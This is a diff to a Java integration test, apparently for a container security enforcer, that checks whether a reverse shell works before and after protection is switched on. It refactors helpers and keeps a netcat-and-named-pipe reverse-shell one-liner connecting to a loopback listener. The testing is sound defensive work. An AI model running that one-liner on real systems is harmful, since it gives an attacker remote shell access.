@@ -4,8 +4,6 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
-import com.fasterxml.jackson.databind.node.ArrayNode;
-import com.fasterxml.jackson.databind.node.ObjectNode;
 import dev.bulwark.enforcer.policy.Mode;
 import dev.bulwark.enforcer.testing.EventsFile;
 import dev.bulwark.enforcer.testing.RuncContainer;
@@ -84,7 +82,7 @@ class AttacksIT {
                 .copy("lib/x86_64-linux-gnu/libc.so.6", LIBC.toRealPath())
                 .symlink("lib64/ld-linux-x86-64.so.2", "../lib/x86_64-linux-gnu/ld-linux-x86-64.so.2")
                 .copy("bin/hello", tools.resolve("hello")).copy("stage/preload.so", tools.resolve("preload.so"))
-                .config(AttacksIT::hostNetwork);
+                .hostNetwork(); // so that a reverse shell can reach the test
         for (String program : PROGRAMS) {
             image.copy("stage/" + program, tools.resolve(program));
         }
@@ -105,16 +103,6 @@ class AttacksIT {
                 Optional.of(events), 1000, "test-node", Optional.empty()), Optional.empty());
     }
 
-    /** The container shares the host's network namespace, so that a reverse shell can reach the test. */
-    private static void hostNetwork(ObjectNode spec) {
-        ArrayNode namespaces = (ArrayNode) spec.path("linux").path("namespaces");
-        for (int i = namespaces.size() - 1; i >= 0; i--) {
-            if (namespaces.get(i).path("type").asText().equals("network")) {
-                namespaces.remove(i);
-            }
-        }
-    }
-
     @AfterEach
     void stop() throws IOException {
         if (enforcer != null) {
@@ -123,6 +111,16 @@ class AttacksIT {
         if (container != null) {
             container.close();
         }
+    }
+
+    private Thread inBackground(String script) {
+        return Thread.ofVirtual().start(() -> {
+            try {
+                sh(script);
+            } catch (IOException e) {
+                throw new java.io.UncheckedIOException(e);
+            }
+        });
     }
 
     private RuncContainer.Result sh(String script) throws IOException {
@@ -295,13 +293,7 @@ class AttacksIT {
         try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
             String attack = "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc 127.0.0.1 %d > /tmp/f"
                     .formatted(listener.getLocalPort());
-            Thread attacker = Thread.ofVirtual().start(() -> {
-                try {
-                    sh(attack);
-                } catch (IOException e) {
-                    throw new java.io.UncheckedIOException(e);
-                }
-            });
+            Thread attacker = inBackground(attack);
             try (Socket shell = listener.accept()) {
                 shell.getOutputStream().write("id\n".getBytes(StandardCharsets.UTF_8));
                 BufferedReader reply = new BufferedReader(new InputStreamReader(shell.getInputStream(),
@@ -318,13 +310,7 @@ class AttacksIT {
 
             protect();
             listener.setSoTimeout(5_000);
-            Thread again = Thread.ofVirtual().start(() -> {
-                try {
-                    sh(attack);
-                } catch (IOException e) {
-                    throw new java.io.UncheckedIOException(e);
-                }
-            });
+            Thread again = inBackground(attack);
             try (Socket shell = listener.accept()) {
                 shell.setSoTimeout(5_000);
                 shell.getOutputStream().write("id\n".getBytes(StandardCharsets.UTF_8));
